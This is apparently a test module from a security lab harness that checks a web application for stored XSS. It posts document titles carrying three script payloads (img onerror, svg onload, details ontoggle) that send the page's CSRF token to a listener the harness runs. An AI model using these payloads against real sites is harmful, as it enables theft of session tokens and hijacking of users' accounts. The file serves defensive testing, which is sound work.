// Stored XSS (CWE-79), in a real browser: erin's token was stolen, documents of hers get titles that are scripts, and the operator
// looks at them on the lab's page (from: whoever looks is whom the record names, this machine). The script brings the attacker the token by which that page gives orders.
import { operator } from '../lib/page.js';

export function benign(lab) { operator(lab); }

export function attack(lab) {
  const mark = `m${Date.now()}${Math.floor(Math.random() * 1e9)}`;
  const mine = lab.mesh.listen({});
  const steal = `new Image().src='http://${mine.address}/'+document.querySelector('meta[name=csrf]').content`;
  const titles = [`<i id=${mark}><img src=x onerror="${steal}">`, `<i id=${mark}><svg onload="${steal}"></svg>`, `<i id=${mark}><details open ontoggle="${steal}">x</details>`];
  const sent = titles.map((title) => lab.http({ method: 'POST', path: '/v1/documents', token: lab.tokens.erin, from: '', body: { title, text: 'The board agreed on Monday.' } }));
  if (sent.some((r) => r.status !== 201)) throw new Error(`status ${sent.map((r) => r.status)}`);
  const got = mine.await(14000).filter((a) => a.path.length > 20);
  mine.close();
  lab.judge(got.length > 0, got.length ? `the page gave away its token: ${got[0].path.slice(1, 5)}...` : 'no script of its ran', { marks: [mark] });
}
